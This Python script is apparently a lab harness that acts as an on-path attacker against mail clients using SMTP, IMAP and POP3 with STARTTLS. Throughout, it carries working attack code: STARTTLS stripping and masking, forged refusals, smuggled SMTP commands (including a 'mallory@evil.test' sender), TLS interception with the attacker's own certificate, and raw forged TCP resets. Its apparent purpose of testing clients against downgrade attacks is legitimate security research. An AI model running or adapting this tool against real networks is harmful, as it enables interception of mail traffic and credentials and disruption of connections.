#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""The attacker on the path: runs in the router's network namespace.

	attacker.py PORT INTERFACE TABLE CERT KEY

TABLE is JSON, address of a client to the name of the attack that it meets.
Connections of those clients that iptables' TPROXY brings here are ended and
begun again towards the server, from the client's own address and port, and
changed on the way; others are only watched on INTERFACE, and reset in the
server's name. Each attack packet is one line of JSON on standard output, with
the time at which it was sent.
"""
import json
import os
import re
import select
import socket
import ssl
import struct
import sys
import threading
import time

IP_TRANSPARENT = 19
lock = threading.Lock()


def say(client, attack):
    with lock:
        print(json.dumps({"client": client, "attack": attack,
                          "time": time.time()}), flush=True)


# ---- what is changed: one line in, lines out ----
#
# to_client and to_server give the bytes to send on in place of a line; None:
# as it was. answer gives what the client gets at once, the server nothing.

class Attack:
    def __init__(self, to_client=None, to_server=None, answer=None,
                 intercept=False):
        self.to_client = to_client or (lambda line: None)
        self.to_server = to_server or (lambda line: None)
        self.answer = answer or (lambda line: None)
        self.intercept = intercept


def without(pattern, by=b""):
    """Every match gone, or replaced."""
    def change(line):
        new = re.sub(pattern, by, line)
        return None if new == line else new
    return change


def when(pattern, text):
    return lambda line: text if re.match(pattern, line, re.I) else None


def behind(pattern, text):
    return lambda line: line + text if re.match(pattern, line, re.I) else None


ATTACKS = {
    "strip-smtp": Attack(to_client=without(rb"^250-STARTTLS\r\n")),
    "strip-imap": Attack(to_client=without(rb" STARTTLS")),
    "strip-pop3": Attack(to_client=without(rb"^STLS\r\n")),
    "mask-smtp": Attack(to_client=without(rb"^250-STARTTLS", b"250-XXXXXXXA")),
    "mask-imap": Attack(to_client=without(rb" STARTTLS", b" XXXXXXXA")),
    "refuse-smtp": Attack(answer=when(rb"STARTTLS", b"454 4.7.0 TLS not avail"
                                      b"able due to local problem\r\n")),
    "ehlo-smtp": Attack(answer=when(rb"EHLO", b"502 5.5.2 Error: command not "
                                    b"recognized\r\n")),
    "command-smtp": Attack(to_server=without(rb"^STARTTLS", b"XXXXXXXX")),
    "preauth-imap": Attack(to_client=without(rb"^\* OK", b"* PREAUTH")),
    "response-imap": Attack(to_client=behind(
        rb"\w+ OK Begin TLS", b"* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n")),
    "command-injection-smtp": Attack(to_server=behind(
        rb"STARTTLS", b"RSET\r\nMAIL FROM:<mallory@evil.test>\r\n")),
    "intercept-smtp": Attack(intercept=True),
    "intercept-imap": Attack(intercept=True),
}
GO_AHEAD = re.compile(rb"220 |\+OK|\w+ OK", re.I)
STARTTLS = re.compile(rb"(\w+ )?(STARTTLS|STLS)\r\n", re.I)


class Session:
    """One client's connection and ours to the server."""

    def __init__(self, client, name, cert):
        self.name, self.attack, self.cert = name, ATTACKS[name], cert
        self.client, self.peer = client, client.getpeername()
        s = socket.socket()
        s.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(self.peer)
        s.settimeout(20)
        s.connect(client.getsockname())
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.server = s
        self.asked = False     # STARTTLS went to the server
        self.raw = False       # from here on bytes are only passed on
        self.rest = {self.client: b"", self.server: b""}

    def line_of_client(self, line):
        answer = self.attack.answer(line)
        if answer is not None:
            self.client.sendall(answer)
            say(self.peer[0], self.name)
            return
        self.asked = STARTTLS.match(line) is not None
        new = self.attack.to_server(line)
        self.server.sendall(line if new is None else new)
        if new is not None:
            say(self.peer[0], self.name)

    def lines_of_server(self, lines):
        out, changed = b"", False
        for line in lines:
            new = self.attack.to_client(line)
            changed = changed or new is not None
            out += line if new is None else new
        if out:
            self.client.sendall(out)
        if changed:
            say(self.peer[0], self.name)
        if self.asked and lines and GO_AHEAD.match(lines[-1]):
            self.raw = True
            if self.attack.intercept:
                self.intercept()

    def intercept(self):
        """TLS to both sides, with our own certificate to the client. TLS 1.2,
        in which the certificate can be seen on the wire, and in which nothing
        but data follows the handshake."""
        out = ssl.create_default_context()
        out.check_hostname, out.verify_mode = False, ssl.CERT_NONE
        out.maximum_version = ssl.TLSVersion.TLSv1_2
        own = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        own.maximum_version = ssl.TLSVersion.TLSv1_2
        own.load_cert_chain(*self.cert)
        server = out.wrap_socket(self.server)
        say(self.peer[0], self.name)
        client = own.wrap_socket(self.client, server_side=True)
        self.client, self.server = client, server

    def relay(self, s, data):
        if self.raw:
            (self.server if s is self.client else self.client).sendall(data)
            return
        data = self.rest[s] + data
        at = data.rfind(b"\n") + 1
        lines, self.rest[s] = data[:at].splitlines(True), data[at:]
        if s is self.server:
            self.lines_of_server(lines)
        else:
            for line in lines:
                self.line_of_client(line)

    def run(self):
        while True:
            ready, _, _ = select.select([self.client, self.server], [], [], 60)
            if not ready:
                return
            for s in ready:
                data = s.recv(65536)   # of TLS: never more than a record
                if not data:
                    return
                self.relay(s, data)
                if self.raw:
                    break      # the sockets may be others now

    def close(self):
        for s in (self.client, self.server):
            try:
                s.close()
            except OSError:
                pass


def serve(client, table, cert):
    try:
        name = table[client.getpeername()[0]]
        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        session = Session(client, name, cert)
    except (OSError, KeyError) as e:
        print(e, file=sys.stderr)
        client.close()
        return
    try:
        session.run()
    except OSError as e:       # also of TLS: a client that refuses
        print(session.name, e, file=sys.stderr)
    finally:
        session.close()


def proxy(port, table, cert):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    s.bind(("0.0.0.0", port))
    s.listen(50)
    while True:
        client, _ = s.accept()
        threading.Thread(target=serve, args=(client, table, cert),
                         daemon=True).start()


# ---- forged resets ----

def checksum(data):
    data += b"\0" * (len(data) & 1)
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def reset(src, sport, dst, dport, seq, ttl):
    """An IPv4 packet with RST; the kernel adds id and header checksum."""
    tcp = struct.pack(">HHIIBBHHH", sport, dport, seq, 0, 0x50, 4, 0, 0, 0)
    pseudo = src + dst + struct.pack(">BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    return struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0, ttl, 6, 0) + src + dst \
        + tcp


class Segment:
    def __init__(self, ip):
        at = (ip[0] & 15) * 4
        self.src, self.dst = ip[12:16], ip[16:20]
        (self.sport, self.dport, self.seq, self.ack, off,
         self.flags) = struct.unpack(">HHIIBB", ip[at:at + 14])
        self.data = ip[at + (off >> 4) * 4:struct.unpack(">H", ip[2:4])[0]
                       or len(ip)]

    def after(self):
        return self.seq + len(self.data) & 0xffffffff

    def is_client_hello(self):
        return self.data[:1] == b"\x16" and self.data[5:6] == b"\1"


def resets(interface, table):
    """reset-hello: to the client, when its ClientHello went by; reset-ready:
    to both, when the go-ahead did."""
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    tap.bind((interface, 0))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    asked = set()
    while True:
        ip, addr = tap.recvfrom(65535)
        if len(ip) < 40 or addr[1] != 0x800 or ip[9] != 6:
            continue
        s = Segment(ip)
        src, dst = socket.inet_ntoa(s.src), socket.inet_ntoa(s.dst)
        if table.get(src) == "reset-hello" and s.is_client_hello():
            raw.sendto(reset(s.dst, s.dport, s.src, s.sport, s.ack, 63),
                       (src, 0))
            say(src, "reset-hello")
        elif table.get(src) == "reset-ready" and STARTTLS.match(s.data):
            asked.add((s.src, s.sport))
        elif table.get(dst) == "reset-ready" and s.data and \
                (s.dst, s.dport) in asked:
            asked.remove((s.dst, s.dport))
            raw.sendto(reset(s.src, s.sport, s.dst, s.dport, s.after(), 63),
                       (dst, 0))
            raw.sendto(reset(s.dst, s.dport, s.src, s.sport, s.ack, 63),
                       (src, 0))
            say(dst, "reset-ready")


def main():
    port, interface, table, cert, key = sys.argv[1:]
    table = json.loads(table)
    try:                       # a reset that comes too late is none
        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
    except OSError:
        pass
    threading.Thread(target=proxy, args=(int(port), table, (cert, key)),
                     daemon=True).start()
    resets(interface, table)


main()
